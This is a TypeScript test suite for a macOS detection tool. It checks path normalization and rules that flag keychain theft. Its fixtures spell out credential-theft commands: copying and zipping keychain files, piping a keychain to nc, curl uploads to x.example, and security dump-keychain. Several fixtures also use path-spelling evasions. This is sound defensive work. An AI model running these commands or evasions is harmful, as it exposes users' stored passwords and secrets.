import { strict as assert } from 'node:assert';
import type { EcsProcessEvent } from '../src/model/ecs';
import { caseEvents, type CorpusExec } from '../bench/detection-corpus';
import { canonicalPath, enrichDocument, enrichEvent, findSubcommand, LIMITS, mayNameKeychain, mentionsKeychain, normalizeArguments, type NormalizeInput } from '../src/process/normalize';
import { DEFAULT_RULES_DIR, loadRuleSet, PACK_RULES_DIR } from '../src/rules';

function norm(args: string[], extra: Partial<NormalizeInput> = {}) {
  return normalizeArguments({ args, processName: args[0], ...extra });
}

describe('detection: argument normalization', () => {
  describe('canonical paths', () => {
    it('collapses //, /./ and /../, drops a trailing slash, keeps .. at the root', () => {
      assert.equal(canonicalPath('/Users//bob/./Library/Caches/../Keychains/'), '/Users/bob/Library/Keychains');
      assert.equal(canonicalPath('/../../Library/Keychains'), '/Library/Keychains');
      assert.equal(canonicalPath('/'), '/');
    });
    it('maps the Data-volume firmlink and the /private links, case-insensitively, and nothing else', () => {
      assert.equal(canonicalPath('/System/Volumes/Data/Users/bob/Library/Keychains'), '/Users/bob/Library/Keychains');
      assert.equal(canonicalPath('/system/volumes/DATA/Library/Keychains/System.keychain'), '/Library/Keychains/System.keychain');
      assert.equal(canonicalPath('/private/var/root/Library/Keychains'), '/var/root/Library/Keychains');
      assert.equal(canonicalPath('/private/etc/hosts'), '/etc/hosts');
      assert.equal(canonicalPath('/private/tmp/x'), '/tmp/x');
      assert.equal(canonicalPath('/System/Volumes/Data/private/tmp/x'), '/tmp/x');
      assert.equal(canonicalPath('/private/other/x'), '/private/other/x');
      // APFS folds LONG S to s: /ſystem is /System.
      assert.equal(canonicalPath('/\u017Fystem/Volumes/Data/Users/bob'), '/Users/bob');
    });
    it('resolves relative paths against the working directory, and spells them ./ without one', () => {
      assert.equal(canonicalPath('Library/Keychains/login.keychain-db', '/Users/bob'), '/Users/bob/Library/Keychains/login.keychain-db');
      assert.equal(canonicalPath('../Keychains', '/Users/bob/Library/Caches'), '/Users/bob/Library/Keychains');
      assert.equal(canonicalPath('login.keychain'), './login.keychain');
      assert.equal(canonicalPath('../x'), './../x');
    });
  });

  it('resolves every operand against the cwd (relative paths from a home cwd)', () => {
    const n = norm(['cp', 'Library/Keychains/login.keychain-db', '/tmp'], { cwd: '/Users/bob' });
    assert.deepEqual(n.paths, ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp']);
    assert.deepEqual(n.keychainPaths, ['/Users/bob/Library/Keychains/login.keychain-db']);
    assert.deepEqual(norm(['zip', '-r', 'k.zip', 'Keychains'], { cwd: '/Users/bob/Library' }).keychainPaths, ['/Users/bob/Library/Keychains']);
  });

  describe('~ and $HOME', () => {
    it('keeps the typed form and adds the expansion for the process user', () => {
      for (const typed of ['~/Library/Keychains', '$HOME/Library/Keychains', '${HOME}/Library/Keychains']) {
        assert.deepEqual(norm(['cat', typed], { userName: 'bob' }).paths, ['~/Library/Keychains', '/Users/bob/Library/Keychains'], typed);
      }
      assert.equal(norm(['cat', '~'], { userName: 'bob' }).home, '/Users/bob');
    });
    it('uses /var/root for root (by name or uid 0), /Users/<name> for ~name, and only the typed form when the user is unknown', () => {
      assert.deepEqual(norm(['cat', '~/Library/Keychains'], { userName: 'root' }).paths, ['~/Library/Keychains', '/var/root/Library/Keychains']);
      assert.deepEqual(norm(['cat', '~/Library/Keychains'], { userId: '0' }).paths, ['~/Library/Keychains', '/var/root/Library/Keychains']);
      assert.deepEqual(norm(['cat', '~carol/Library/Keychains']).paths, ['~carol/Library/Keychains', '/Users/carol/Library/Keychains']);
      assert.deepEqual(norm(['cat', '~/Library/Keychains']).paths, ['~/Library/Keychains']);
    });
    it('does not take $HOMEBREW_PREFIX for $HOME', () => {
      assert.deepEqual(norm(['ls', '$HOMEBREW_PREFIX/Library/Keychains'], { userName: 'bob', cwd: '/x' }).paths, ['/x/$HOMEBREW_PREFIX/Library/Keychains']);
    });
  });

  it('reads key=value, key=@value, --opt=value and file:// forms', () => {
    assert.deepEqual(norm(['dd', 'if=/Users/bob/Library/Keychains/login.keychain-db', 'of=/tmp/k']).paths, ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/k']);
    assert.deepEqual(norm(['curl', '-F', 'file=@/Users/bob/Library/Keychains/login.keychain-db', 'https://x.example/u']).paths, ['/Users/bob/Library/Keychains/login.keychain-db']);
    assert.deepEqual(norm(['curl', '--upload-file=~/Library/Keychains/login.keychain-db'], { userName: 'bob' }).keychainPaths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db']);
    assert.deepEqual(norm(['curl', '-d', '@/Library/Keychains/System.keychain', 'file:///Users/bob/Library/Key%63hains/x']).paths, ['/Library/Keychains/System.keychain', '/Users/bob/Library/Keychains/x']);
  });

  describe('paths inside script arguments', () => {
    it('sh -c, with redirections and cd moving the base of later relative words', () => {
      const sh = norm(['sh', '-c', 'cat ~/Library/Keychains/login.keychain-db > /tmp/k'], { userName: 'bob' });
      assert.deepEqual(sh.paths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db', '/tmp/k']);
      const cd = norm(['zsh', '-c', 'cd ~/Library && zip -qr /tmp/l.zip Keychains'], { userName: 'bob' });
      assert.ok(cd.keychainPaths.includes('/Users/bob/Library/Keychains'), JSON.stringify(cd));
      const builtin = norm(['bash', '-c', 'exec 3< "$HOME/Library/Keychains/login.keychain-db"; cat <&3 | nc h 1'], { userName: 'bob' });
      assert.ok(builtin.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
    });
    it('osascript -e with do shell script, nested quoting three levels deep', () => {
      const n = norm(['osascript', '-e', 'do shell script "cp ~/Library/Keychains/login.keychain-db /tmp/x"'], { userName: 'bob' });
      assert.deepEqual(n.paths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x']);
      const nested = norm(['sh', '-c', `osascript -e 'do shell script "bash -c \\"cat /Library/Keychains/System.keychain\\""'`]);
      assert.deepEqual(nested.keychainPaths, ['/Library/Keychains/System.keychain']);
    });
    it('python -c and perl -e: string literals split out of the code', () => {
      assert.deepEqual(norm(['python3', '-c', "import shutil; shutil.copy('/Users/bob/Library/Keychains/login.keychain-db','/tmp/x')"]).paths, ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x']);
      const perl = norm(['perl', '-e', 'open(F,"<$ENV{HOME}/Library/Keychains/login.keychain-db");print <F>'], { cwd: '/Users/bob' });
      assert.ok(perl.keychainPaths.some((p) => p.endsWith('/Library/Keychains/login.keychain-db')), JSON.stringify(perl));
    });
    it('AppleScript HFS paths (colon-separated)', () => {
      assert.ok(norm(['osascript', '-e', 'read file "Macintosh HD:Users:bob:Library:Keychains:login.keychain-db"']).keychainPaths.includes('/Macintosh HD/Users/bob/Library/Keychains/login.keychain-db'));
    });
    it('leaves an embedded `security` command to its own exec in shell scripts, but not its redirections', () => {
      assert.deepEqual(norm(['sh', '-c', 'security import c.p12 -k ~/Library/Keychains/login.keychain-db -P x'], { userName: 'bob' }).paths, []);
      const mixed = norm(['sh', '-c', 'security import c.p12 -k login.keychain; cp ~/Library/Keychains/login.keychain-db /tmp'], { userName: 'bob' });
      assert.deepEqual(mixed.keychainPaths, ['~/Library/Keychains/login.keychain-db', '/Users/bob/Library/Keychains/login.keychain-db']);
      const redirect = norm(['sh', '-c', 'security import x < ~/Library/Keychains/login.keychain-db'], { userName: 'bob' });
      assert.ok(redirect.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
    });
    it('does not trust `security` in a script that redefines it, or outside shell grammar', () => {
      const fn = norm(['sh', '-c', 'security() { cat "$2"; }; security import ~/Library/Keychains/login.keychain-db'], { userName: 'bob' });
      assert.ok(fn.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
      const py = norm(['python3', '-c', 'security=0;(security,"import",shutil.copy("/Users/bob/Library/Keychains/login.keychain-db","/tmp/x"))']);
      assert.ok(py.keychainPaths.includes('/Users/bob/Library/Keychains/login.keychain-db'));
    });
  });

  describe('the per-exec pre-check', () => {
    it('skips execs that cannot name a keychain, and fills nothing for them', () => {
      assert.ok(!mayNameKeychain(['git', 'rev-parse', '--show-toplevel'], '/Users/bob/src'));
      assert.deepEqual(norm(['cp', 'a', '/tmp/b'], { cwd: '/Users/bob' }).paths, []);
    });
    it('sees keychain names through quoting, escapes, file URLs and the cwd', () => {
      assert.ok(mayNameKeychain(['sh', '-c', 'cat ~/Library/Key\\chains/login.keychain\\-db'], undefined));
      assert.ok(mayNameKeychain(['sh', '-c', "cp -R ~/Library/Key''chains /tmp"], undefined));
      assert.ok(mayNameKeychain(['curl', 'file:///Users/b/Library/Key%63hains/x'], undefined));
      assert.ok(mayNameKeychain(['cp', 'login.db', '/tmp'], '/Users/bob/Library/Keychains'));
      assert.ok(mayNameKeychain(['cat', '/Users/b/Library/\u212Aeychains/x'], undefined));
      assert.deepEqual(norm(['sh', '-c', "cp -R ~/Library/Key''chains /tmp"], { userName: 'bob' }).keychainPaths, ['~/Library/Keychains', '/Users/bob/Library/Keychains']);
    });
  });

  describe('subcommand', () => {
    it("follows security's option grammar (-p takes a value, clusters, --)", () => {
      assert.equal(findSubcommand(['security', 'dump-keychain', '-d'], 'hilp:qv'), 'dump-keychain');
      assert.equal(findSubcommand(['security', '-p', 'import', 'dump-keychain'], 'hilp:qv'), 'dump-keychain');
      assert.equal(findSubcommand(['security', '-qp', 'import', 'export'], 'hilp:qv'), 'export');
      assert.equal(findSubcommand(['security', '-pimport', 'export'], 'hilp:qv'), 'export');
      assert.equal(findSubcommand(['security', '--', 'import'], 'hilp:qv'), 'import');
      assert.equal(findSubcommand(['security', '-i'], 'hilp:qv'), undefined);
    });
    it('is only computed for tools with a known grammar', () => {
      assert.equal(norm(['security', '-v', 'import', 'x.p12']).subcommand, 'import');
      assert.equal(norm(['cp', 'import', '/tmp']).subcommand, undefined);
    });
  });

  describe('bounds (argv is attacker-controlled)', () => {
    it('keeps a keychain path behind 10,000 padding arguments, caps the lists and counts what it left out', () => {
      const args = ['cp', ...Array.from({ length: 10_000 }, (_, i) => `/tmp/pad/${i}`), '/Users/bob/Library/Keychains/login.keychain-db', '/tmp/out'];
      const n = norm(args);
      assert.equal(n.paths.length, LIMITS.maxPaths);
      assert.deepEqual(n.keychainPaths, ['/Users/bob/Library/Keychains/login.keychain-db']);
      assert.equal(n.dropped, 10_002 - LIMITS.maxPaths);
    });
    it('caps keychain paths too, and skips words longer than any path a syscall accepts', () => {
      const many = norm(['cp', ...Array.from({ length: 500 }, (_, i) => `/Users/bob/Library/Keychains/k${i}`)]);
      assert.equal(many.keychainPaths.length, LIMITS.maxKeychainPaths);
      const long = norm(['cat', `/Users/bob/Library/Keychains/${'a'.repeat(LIMITS.maxPathWord)}`]);
      assert.deepEqual(long.paths, []);
      assert.equal(long.dropped, 1);
    });
    it('reads a 1 MiB script of unbalanced quotes and escapes in one pass with bounded output', () => {
      const script = `${'"\\\'x ; '.repeat(150_000)}cat /Library/Keychains/System.keychain`;
      const n = norm(['sh', '-c', script]);
      assert.ok(n.paths.length <= LIMITS.maxPaths);
      const deep = norm(['sh', '-c', `${'"'.repeat(1 << 20)}`]);
      assert.deepEqual(deep.paths, []);
    });
    it('finds "keychain" under case folding, including KELVIN SIGN', () => {
      assert.ok(mentionsKeychain('/Users/b/Library/KEYCHAINS'));
      assert.ok(mentionsKeychain('/Users/b/Library/\u212Aeychains'));
      assert.ok(mentionsKeychain('kkeychain'));
      assert.ok(!mentionsKeychain('/Users/b/Library/Keychai'));
    });
  });

  it('enrichDocument reads only well-typed ECS fields and replaces a planted keysentry object', () => {
    const doc = { process: { name: 'cp', args: ['cp', 7, 'Library/Keychains/login.keychain-db', null], working_directory: '/Users/bob' }, user: { name: 'bob' }, keysentry: { keychain_paths: ['/forged'] } };
    enrichDocument(doc);
    assert.deepEqual(doc.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], home: '/Users/bob' });
    const forged = { process: { name: 'echo', args: ['echo', 'hi'], command_line: 'echo ~/Library/Keychains' }, keysentry: { keychain_paths: ['/forged'] } };
    enrichDocument(forged);
    assert.equal('keysentry' in forged, false, 'a command_line that disagrees with args is not believed, and the planted field is gone');
    const broken = { process: 'not an object', keysentry: 1 };
    enrichDocument(broken);
    assert.equal('keysentry' in broken, false);
  });

  it('enrichEvent adds nothing to an exec that cannot name a keychain, and the fields to one that does', () => {
    const exec = (args: string[], cwd = '/Users/bob'): EcsProcessEvent => ({
      '@timestamp': '2026-12-03T00:00:00Z',
      event: { kind: 'event' as const, category: ['process'] as ['process'], type: ['start'], action: 'exec' as const },
      host: { os: { type: 'macos' } },
      process: { pid: 1, entity_id: 'e', executable: `/usr/bin/${args[0]}`, name: args[0] as string, args, args_count: args.length, command_line: args.join(' '), working_directory: cwd },
      user: { id: '501', name: 'bob' },
    });
    const plain = exec(['true']);
    enrichEvent(plain);
    assert.equal('keysentry' in plain, false);
    const security = exec(['security', 'find-identity', '-v']);
    enrichEvent(security);
    assert.deepEqual(security.keysentry, { subcommand: 'find-identity', home: '/Users/bob' });
    const theft = exec(['cp', 'Library/Keychains/login.keychain-db', '/tmp/x']);
    enrichEvent(theft);
    assert.deepEqual(theft.keysentry, { paths: ['/Users/bob/Library/Keychains/login.keychain-db', '/tmp/x'], keychain_paths: ['/Users/bob/Library/Keychains/login.keychain-db'], home: '/Users/bob' });
    const fromCwd = exec(['cp', 'login.keychain-db', '/tmp/x'], '/Users/bob/Library/Keychains');
    enrichEvent(fromCwd);
    assert.deepEqual(fromCwd.keysentry?.keychain_paths, ['/Users/bob/Library/Keychains/login.keychain-db']);
  });
});

describe('detection: the pack through the real engine', () => {
  const stock = loadRuleSet([DEFAULT_RULES_DIR]);
  const pack = loadRuleSet([PACK_RULES_DIR]);
  const names = (e: CorpusExec, rules = pack): string[] =>
    caseEvents({ id: 't', source: 'test', execs: [e] }, true).flatMap((ev) => rules.evaluate(ev).map((r) => r.name));
  const ANY = 'Keychain Accessed Through Any Path Spelling';
  const ARCHIVE = 'Keychain Archived by a Compression Utility';
  const SECURITY = 'Keychain Secrets Dumped or Browser Safe Storage Key Read via security';

  it('loads with no errors or unsupported rules', () => {
    assert.deepEqual(pack.errors, []);
    assert.deepEqual(pack.unsupported, []);
    assert.equal(pack.rules.length, 3);
  });

  it('an extra argument named import excludes a cp from the stock rule, not from the pack', () => {
    const theft: CorpusExec = { exe: '/bin/cp', args: ['cp', '/Users/alice/Library/Keychains/login.keychain-db', 'import'] };
    assert.deepEqual(names(theft, stock), []);
    assert.deepEqual(names(theft), [ANY]);
  });

  it('the verb exclusion applies to /usr/bin/security with that subcommand only', () => {
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'import', 'c.p12', '-k', '/Users/alice/Library/Keychains/login.keychain-db'] }), []);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', '-p', 'import', 'export', '-k', '/Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', '-p', 'import', 'export', '-t', 'identities'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/tmp/security', sig: 'adhoc', args: ['security', 'import', '/Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
  });

  it('trusts /opt/jc/bin/jumpcloud-agent only with a valid JumpCloud Developer ID signature', () => {
    const at = (sig: string): CorpusExec => ({ exe: '/opt/jc/bin/jumpcloud-agent', sig, user: 'root', uid: 0, args: ['jumpcloud-agent', '/Users/alice/Library/Keychains/login.keychain-db'] });
    assert.deepEqual(names(at('unsigned'), stock), []);
    assert.deepEqual(names(at('unsigned')), [ANY]);
    assert.deepEqual(names(at('adhoc')), [ANY]);
    assert.deepEqual(names(at('devid:ZZZZ9999ZZ:jumpcloud-agent')), [ANY]);
    assert.deepEqual(names(at('devid:N985MXSH85:jumpcloud-agent')), []);
    const child = (sig: string): CorpusExec => ({ exe: '/bin/cp', args: ['cp', '/Users/alice/Library/Keychains/login.keychain-db', '/tmp'], parent: { exe: '/opt/jc/bin/jumpcloud-agent', sig } });
    assert.deepEqual(names(child('adhoc'), stock), []);
    assert.deepEqual(names(child('adhoc')), [ANY]);
    assert.deepEqual(names(child('devid:N985MXSH85:jumpcloud-agent')), []);
  });

  it('trusts OpenVPN Connect and Defender parents by team ID and path together', () => {
    const openvpn = '/Applications/OpenVPN Connect/OpenVPN Connect.app/Contents/MacOS/OpenVPN Connect';
    const kc: CorpusExec = { exe: '/usr/bin/security', args: ['security', 'add-generic-password', '-s', 'x', '/Users/alice/Library/Keychains/openvpn.keychain-db'], parent: { exe: openvpn, sig: 'devid:ACV7L3WCD8:org.openvpn.client.app' } };
    assert.deepEqual(names(kc), []);
    assert.deepEqual(names({ ...kc, parent: { exe: openvpn, sig: 'devid:ZZZZ9999ZZ:org.openvpn.client.app' } }), [ANY]);
    assert.deepEqual(names({ ...kc, parent: { exe: '/tmp/OpenVPN Connect', sig: 'devid:ACV7L3WCD8:org.openvpn.client.app' } }), [ANY]);
    const trick: CorpusExec = { exe: '/bin/cp', args: ['cp', '/Users/alice/Library/Keychains/login.keychain-db', '/Users/alice/Library/Keychains/openvpn.keychain-db', '/tmp/d/'] };
    assert.deepEqual(names(trick, stock), []);
    assert.deepEqual(names(trick), [ANY]);
  });

  it('reports archivers once, under the archive rule, and the folder without a trailing slash', () => {
    assert.deepEqual(names({ exe: '/usr/bin/zip', args: ['zip', '-r', 'out.zip', '/Users/alice/Library/Keychains'] }), [ARCHIVE]);
    assert.deepEqual(names({ exe: '/usr/bin/zip', args: ['zip', '-r', 'out.zip', '/Users/alice/Library/Keychains'] }, stock), []);
    assert.deepEqual(names({ exe: '/usr/bin/ditto', args: ['ditto', '/Users/alice/Library/Keychains', '/tmp/k'] }), [ANY]);
  });

  it('excludes metadata-only system tools by their SIP path, not by name', () => {
    assert.deepEqual(names({ exe: '/bin/ls', args: ['ls', '-la', '/Users/alice/Library/Keychains'] }), []);
    assert.deepEqual(names({ exe: '/tmp/ls', sig: 'adhoc', args: ['ls', '-R', '/Users/alice/Library/Keychains', '/tmp/x'] }), [ANY]);
  });

  it('catches every spelling the normalizer covers, through the process table and ECS event', () => {
    const spellings: CorpusExec[] = [
      { exe: '/bin/cp', args: ['cp', 'Library/Keychains/login.keychain-db', '/tmp'] },
      { exe: '/bin/cat', args: ['cat', '/System/Volumes/Data/Users/alice/Library/Keychains/login.keychain-db'] },
      { exe: '/bin/cat', args: ['cat', '/private/var/root/Library/Keychains/login.keychain-db'], user: 'root', uid: 0 },
      { exe: '/bin/cat', args: ['cat', '/Library//Keychains/System.keychain'] },
      { exe: '/bin/cat', args: ['cat', '/Users/alice/Library/./Keychains/x'] },
      { exe: '/bin/cat', args: ['cat', '/Library/Caches/../Keychains/System.keychain'] },
      { exe: '/bin/dd', args: ['dd', 'if=/Users/alice/Library/Keychains/login.keychain-db'] },
      { exe: '/usr/bin/curl', args: ['curl', '-F', 'f=@/Users/alice/Library/Keychains/login.keychain-db', 'https://x.example'] },
      { exe: '/bin/sh', args: ['sh', '-c', 'cat $HOME/Library/Keychains/login.keychain-db'] },
      { exe: '/usr/bin/osascript', args: ['osascript', '-e', 'do shell script "cat ~/Library/Keychains/login.keychain-db"'] },
      { exe: '/usr/bin/python3', args: ['python3', '-c', "open('/Users/alice/Library/Keychains/login.keychain-db','rb').read()"] },
    ];
    for (const e of spellings) {
      assert.deepEqual(names(e), [ANY], e.args.join(' '));
      assert.deepEqual(names(e, stock), [], `the stock rule should miss ${e.args.join(' ')}`);
    }
  });

  it('reads security verbs as the subcommand, not as any argument', () => {
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'dump-keychain'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'find-generic-password', '-ga', 'Chrome'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'find-generic-password', '-s', 'AC_PASSWORD', '-w'] }), []);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'find-certificate', '-c', 'dump-keychain'] }), []);
  });
});
